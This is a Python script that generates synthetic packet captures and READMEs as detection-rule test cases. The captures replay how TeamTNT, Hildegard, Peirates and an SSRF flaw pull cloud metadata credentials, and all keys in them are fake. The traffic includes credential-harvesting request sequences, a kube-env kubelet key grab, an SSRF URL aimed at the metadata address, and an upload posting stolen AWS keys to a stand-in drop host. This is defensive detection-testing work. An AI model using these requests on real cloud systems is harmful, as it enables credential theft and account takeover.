#!/usr/bin/env python3
"""Writes the captures of this folder: what known intruders ask of metadata services, and the four tests that the source
rule names. The facts are from public analyses, named in each README; the requests are made here, and all keys are fake.

usage: make.py        writes CASE/input.pcap and CASE/README.md beside this file
"""
import json
import pathlib
import struct
import sys

HERE = pathlib.Path(__file__).parent
sys.dont_write_bytecode = True
sys.path[:0] = [str(HERE.parent), str(HERE.parent / "signals")]
from make import Capture, IMDS, answer  # noqa: E402
from packets import address, describe, ethernet, pcap, udp  # noqa: E402

VM, POD, DROP, RESOLVER, WEB = "10.20.0.10", "10.244.1.7", "203.0.113.66", "10.20.0.2", "10.20.0.80"
SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
KEYS = {
    "Code": "Success", "LastUpdated": "2026-11-24T06:00:00Z", "Type": "AWS-HMAC", "AccessKeyId": "ASIAEXAMPLE000DEMO01",
    "SecretAccessKey": SECRET, "Token": "IQoJb3JpZ2luX2VjEEXAMPLESESSIONTOKEN0123456789", "Expiration": "2026-11-24T12:00:00Z",
}
TOKEN = json.dumps({"access_token": "ya29.c.EXAMPLE0123456789abcdefEXAMPLE", "expires_in": 3599, "token_type": "Bearer"})
AZURE = json.dumps({"access_token": "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL20ifQ.EXAMPLEsignature0123456789",
                    "client_id": "11111111-2222-3333-4444-555555555555", "expires_on": "1795576766", "resource": "https://management.azure.com/",
                    "token_type": "Bearer"})
KUBE_ENV = "CLUSTER_NAME: prod-1\nKUBERNETES_MASTER_NAME: 203.0.113.10\nKUBELET_CERT: TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMEVYQU1QTEUx\nKUBELET_KEY: TFMwdExTMUNSVWRKVGlCU1UwRWdVRkpKVmtGVVJTQkxSVmt0RVhBTVBMRTI=\n"
ROLES = "/latest/meta-data/iam/security-credentials/"


class Network(Capture):
    """Conversations of any two hosts, and lookups."""

    def talk(self, request, response, client=VM, server=IMDS, port=80, ttl=64):
        """One connection with one exchange; the answer in segments of 1200 bytes."""
        self.port += 1
        here, seq, ack = self.port, 1000, 5000
        to, back = (client, server, ttl, here, port), (server, client, 64, port, here)
        self.packet(*to, seq, 0, 0x02)
        self.packet(*back, ack, seq + 1, 0x12)
        seq, ack = seq + 1, ack + 1
        self.packet(*to, seq, ack, 0x10)
        for piece in pieces(request):
            self.packet(*to, seq, ack, 0x18, piece)
            seq += len(piece)
        for piece in pieces(response):
            self.packet(*back, ack, seq, 0x18, piece)
            ack += len(piece)
        self.packet(*to, seq, ack, 0x11)
        self.packet(*back, ack, seq + 1, 0x11)
        self.packet(*to, seq + 1, ack + 1, 0x10)
        self.time += 0.05

    def lookup(self, name, ip, client=VM):
        self.port += 1
        labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
        question = labels + struct.pack(">HH", 1, 1)
        self.datagram(client, RESOLVER, self.port, 53, struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + question)
        record = struct.pack(">HHHIH", 0xC00C, 1, 1, 60, 4) + address(ip)
        self.datagram(RESOLVER, client, 53, self.port, struct.pack(">6H", 7, 0x8180, 1, 1, 0, 0) + question + record)

    def datagram(self, source, destination, sport, dport, payload):
        self.records.append((self.time, ethernet(udp(source, destination, sport, dport, payload))))
        self.time += 0.001

    def save(self, case, what, source):
        folder = HERE / case
        folder.mkdir(exist_ok=True)
        (folder / "input.pcap").write_bytes(pcap(self.records))
        describe(folder, f"# {case.replace('-', ' ')}\n\n{what}\n\nFacts: {source}\n\nWritten by `../make.py`; all keys are fake.\n")


def pieces(data):
    return [data[at:at + 1200] for at in range(0, len(data), 1200)]


def request(target, *headers, method="GET", version="1.1", body=b""):
    lines = [f"{method} {target} HTTP/{version}", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode() + body


def curl(target, *headers, host=IMDS, agent="curl/7.58.0", **more):
    return request(target, f"Host: {host}", f"User-Agent: {agent}", "Accept: */*", *headers, **more)


def go(target, *headers, host=IMDS):
    return request(target, f"Host: {host}", "User-Agent: Go-http-client/1.1", *headers, "Accept-Encoding: gzip")


def google(body):
    return answer(body, "200 OK", "Metadata Server for VM", "Metadata-Flavor: Google")


def teamtnt():
    net = Network()
    net.talk(curl("/latest/meta-data/iam/info"), answer(json.dumps({"Code": "Success", "InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/web"})))
    net.talk(curl(ROLES), answer("demo-web-role"))
    net.talk(curl(ROLES + "demo-web-role"), answer(json.dumps(KEYS, indent=2)))
    net.talk(curl("/v2/credentials/7f3c9a1b-0000-4444-8888-0123456789ab", host="169.254.170.2"),
             answer(json.dumps({k: v for k, v in KEYS.items() if k not in ("Code", "Type", "LastUpdated")})), server="169.254.170.2")
    loot = f"aws_access_key_id = {KEYS['AccessKeyId']}\naws_secret_access_key = {SECRET}\naws_session_token = {KEYS['Token']}\n"
    part = f"--b0undary\r\nContent-Disposition: form-data; name=\"userfile\"; filename=\"aws.txt\"\r\nContent-Type: text/plain\r\n\r\n{loot}\r\n--b0undary--\r\n"
    net.talk(curl("/upload.php", "Content-Type: multipart/form-data; boundary=b0undary", host="drop.example", method="POST", body=part.encode()),
             b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", server=DROP)
    net.save("teamtnt-credential-script", "The group's script for AWS: it asks for the instance profile, lists the role, fetches its keys and those of the container, and posts them "
             "in clear text.\n\nMust fire: `imds-credential-issued` (critical: curl, version 1) for both documents, `credential-relayed` for the upload.",
             "Cado Security, \"Team TNT: the first crypto-mining worm to steal AWS credentials\" (2020); Trend Micro, \"TeamTNT continues attack on the cloud, targets AWS credentials\" (2021); "
             "MITRE ATT&CK G0139.")
    net = Network()
    net.talk(request(ROLES, f"Host: {IMDS}", version="1.0"), answer("demo-web-role"))
    net.talk(request(ROLES + "demo-web-role", f"Host: {IMDS}", version="1.0"), answer(json.dumps(KEYS, indent=2)))
    net.save("teamtnt-without-curl", "The same where neither curl nor wget is installed: the shell opens `/dev/tcp` and writes the request itself, HTTP/1.0 without User-Agent.\n\n"
             "Must fire: `imds-credential-issued` (critical).",
             "Cado Security, \"Botnet deploys cloud and container attack techniques\" (2021), on the shell function that downloads over `/dev/tcp`.")


def hildegard():
    net = Network()
    wget = lambda target: request(target, "User-Agent: Wget/1.20.3 (linux-gnu)", "Accept: */*", "Accept-Encoding: identity", f"Host: {IMDS}", "Connection: Keep-Alive")
    net.talk(wget(ROLES), answer("node-instance-role"), client=POD, ttl=63)
    net.talk(wget(ROLES + "node-instance-role"), answer(json.dumps(KEYS, indent=2)), client=POD, ttl=63)
    net.save("hildegard-from-a-pod", "From a container of the cluster it asks for the keys of the node's role.\n\nMust fire: `imds-credential-issued` (critical: wget, version 1, one hop away).",
             "Palo Alto Networks Unit 42, \"Hildegard: new TeamTNT cryptojacking malware targeting Kubernetes\" (2021); MITRE ATT&CK S0601.")


def peirates():
    net = Network()
    net.talk(go("/latest/meta-data/placement/availability-zone"), answer("eu-west-1a"), client=POD, ttl=63)
    net.talk(go(ROLES), answer("node-instance-role"), client=POD, ttl=63)
    net.talk(go(ROLES + "node-instance-role"), answer(json.dumps(KEYS, indent=2)), client=POD, ttl=63)
    net.save("peirates-aws", "Its menu entry for AWS: zone, role and keys with Go's own HTTP client, version 1.\n\nMust fire: `imds-credential-issued` (critical).",
             "the tool's source, github.com/inguardians/peirates (aws.go); MITRE ATT&CK S0683.")
    net = Network()
    host, flavour = "metadata.google.internal", "Metadata-Flavor: Google"
    net.lookup(host, IMDS, client=POD)
    net.talk(go("/computeMetadata/v1/instance/service-accounts/", flavour, host=host), google("default/\nnode@prod-1.iam.gserviceaccount.com/\n"), client=POD)
    net.talk(go("/computeMetadata/v1/instance/service-accounts/default/token", flavour, host=host), google(TOKEN), client=POD)
    net.talk(go("/computeMetadata/v1/instance/attributes/kube-env", flavour, host=host), google(KUBE_ENV), client=POD)
    net.save("peirates-gcp", "Its menu entries for Google: the accounts, a token, and the kubelet's key and certificate from `kube-env`.\n\n"
             "Must fire: `imds-credential-issued` for the token and for the kubelet's key.",
             "the tool's documentation, github.com/inguardians/peirates (docs/commands/gcp-get-token.md, gcp-attack-kube-env.md); MITRE ATT&CK S0683.")


def source_rule():
    source = "the source rule's investigation guide and its test cases (elastic/detection-rules, `credential_access_unusual_imds_request`), Atomic Red Team T1552.005."
    net = Network()
    net.talk(curl(ROLES, agent="curl/8.5.0"), answer("demo-web-role"))
    net.talk(curl(ROLES + "demo-web-role", agent="curl/8.5.0"), answer(json.dumps(KEYS, indent=2)))
    net.save("source-rule-aws", "curl for the credentials of an IAM role.\n\nMust fire: `imds-credential-issued` (critical).", source)
    net = Network()
    net.talk(curl("/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "Metadata: true", agent="curl/8.5.0"),
             answer(AZURE, "200 OK", "IMDS/150.870.65.1854"))
    net.save("source-rule-azure", "curl for a token of the managed identity.\n\nMust fire: `imds-credential-issued` (critical).", source)
    net = Network()
    host = "metadata.google.internal"
    net.lookup(host, IMDS)
    net.talk(curl("/computeMetadata/v1/instance/service-accounts/default/token", "Metadata-Flavor: Google", host=host, agent="curl/8.5.0"), google(TOKEN))
    net.save("source-rule-gcp", "curl for a token of the service account, with the lookup of the name.\n\nMust fire: `imds-lookup`, `imds-credential-issued` (critical).", source)
    net = Network()
    python = lambda target: request(target, f"Host: {IMDS}", "User-Agent: python-requests/2.32.3", "Accept-Encoding: gzip, deflate", "Accept: */*", "Connection: keep-alive")
    page = b"HTTP/1.1 200 OK\r\nServer: gunicorn\r\nContent-Type: text/plain\r\nContent-Length: 4\r\n\r\ndone"
    for target in (ROLES, ROLES + "demo-web-role"):
        asked = curl(f"/fetch?url=http://{IMDS}{target}", host="app.example", agent="Mozilla/5.0 (X11; Linux x86_64)")
        net.talk(asked, page, client="198.51.100.7", server=WEB, port=8080)
        net.talk(python(target), answer("demo-web-role" if target == ROLES else json.dumps(KEYS, indent=2)), client=WEB)
    net.save("source-rule-python", "Server-side request forgery in Python: the application fetches what its user names.\n\n"
             "Must fire: `ssrf-confirmed` (critical), `imds-credential-issued` (critical: python-requests, version 1).", source)


if __name__ == "__main__":
    teamtnt()
    hildegard()
    peirates()
    source_rule()
